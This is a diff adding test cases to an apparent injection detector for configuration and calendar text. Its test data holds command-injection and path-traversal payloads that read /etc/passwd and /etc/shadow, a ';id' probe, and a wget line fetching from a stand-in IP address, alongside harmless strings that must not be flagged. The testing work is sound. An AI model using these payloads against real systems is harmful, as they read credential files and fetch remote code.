@@ -71,3 +71,40 @@ test.each(['2024-05-01 12:30 id', '12 14 (a) | b 16 18', '10:00 11:30 Tom & Jerr
     expect(report({ value: text, other: 'x' }).matches).toEqual([]);
   },
 );
+
+test.each([
+  'host = one\nname = ;cat /etc/passwd\nport = 80\nlevel = 2',
+  'PORT=80\nNAME=a;cat /etc/passwd\nLEVEL=2\nNODE=3',
+  'BEGIN:VEVENT\nSUMMARY:Meeting\nDESCRIPTION:|wget http://203.0.113.9/a\nEND:VEVENT',
+  'file = ../../../../etc/passwd\nport = 80',
+])('a setting whose value breaks out or climbs excuses nothing: %j', (text) => {
+  expect(report({ value: text, other: 'x' }).matches).not.toEqual([]);
+});
+
+test.each([
+  'PATH=/usr/local/bin:$PATH; export PATH\nLANG=C\n',
+  'key: a; b\nother: c & d\nthird = x | y\n',
+  '; the name of the host\nname = ; none yet\n',
+  'a = b;\nc = d;\nif (a) { e = f; }\n',
+])('settings are harmless: %j', (text) => {
+  expect(report({ value: text, other: 'x' }).matches).toEqual([]);
+});
+
+test.each([';id the', '/etc/passwd `x`', '; cat /etc/passwd ```', '%00/etc/shadow%00 and so'])(
+  'what a value begins with is judged, whatever follows: %s',
+  (text) => {
+    expect(report({ value: text, other: 'x' }).matches).not.toEqual([]);
+  },
+);
+
+test.each([
+  '$ne: is an operator',
+  '*bold* and so',
+  '/help me',
+  ';-) good',
+  '& more',
+  '(a) or (b)',
+  '/docs/setup.md says',
+])('what a harmless text begins with stays so: %s', (text) => {
+  expect(report({ value: text, other: 'x' }).matches).toEqual([]);
+});
